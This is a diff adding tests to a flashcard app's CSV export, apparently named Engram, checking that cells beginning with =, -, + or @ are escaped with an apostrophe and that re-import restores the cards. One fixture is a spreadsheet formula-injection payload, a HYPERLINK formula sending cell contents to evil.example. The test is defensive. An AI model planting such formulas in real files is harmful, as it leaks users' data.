@@ -76,6 +76,47 @@ describe('exporting cards as CSV', () => {
   });
 });
 
+describe('a CSV export opened in a spreadsheet', () => {
+  it('holds a cell a spreadsheet would run as a formula as text, with an apostrophe before it', async () => {
+    const ann = learner('ann');
+    await tagged(ann, '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")', '+1 555 0100', ['@home', 'phone']);
+    await tagged(ann, '-5 °C', "'=already marked", ['-cold']);
+    const { exportId } = await cards.as(ann).startExport({ format: 'csv' });
+    const done = await finished(ann, exportId);
+    const text = (await (await fetch(done.url)).text()).replace(/^\uFEFF/, '');
+    const rows = text.split('\r\n').slice(1, -1).sort();
+    expect(rows).toEqual([
+      `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click me"")",'+1 555 0100,'@home phone,basic`,
+      "'-5 °C,''=already marked,'-cold,basic",
+    ]);
+  });
+
+  it("imports again as the same cards, those beginning with = or - included (Engram's import takes the mark off)", async () => {
+    const ann = learner('ann');
+    const bob = learner('bob');
+    await tagged(ann, '=1+1', '2', ['=maths']);
+    await tagged(ann, '- a list item', "'quoted", ['-negative', 'plain']);
+    await tagged(ann, "'=looks marked", '@noon', ['@place']);
+    const { exportId } = await cards.as(ann).startExport({ format: 'csv' });
+    const done = await finished(ann, exportId);
+    const uploadId = await cards.uploadToImport(bob, 'from-ann.csv', await download(done.url));
+    const { importId } = await cards.as(bob).startImport({ uploadId });
+    await waitUntil('the import finished', async () => {
+      const imported = await cards.as(bob).getImport({ importId });
+      return imported.status === 'done' || imported.status === 'failed';
+    });
+    expect(await cards.as(bob).getImport({ importId })).toMatchObject({
+      status: 'done',
+      counts: { cards: 3, skipped: 0 },
+    });
+    const shape = async (userId: string) =>
+      (await cards.list(userId, { pageSize: 100 })).items
+        .map((card) => ({ front: card.front, back: card.back, tags: card.tags.map((tag) => tag.name).sort() }))
+        .sort((a, b) => a.front.localeCompare(b.front));
+    expect(await shape(bob)).toEqual(await shape(ann));
+  });
+});
+
 describe('exporting cards as an Anki package', () => {
   it('holds the cards with their files, tags as decks and review history', async () => {
     const ann = learner('ann');
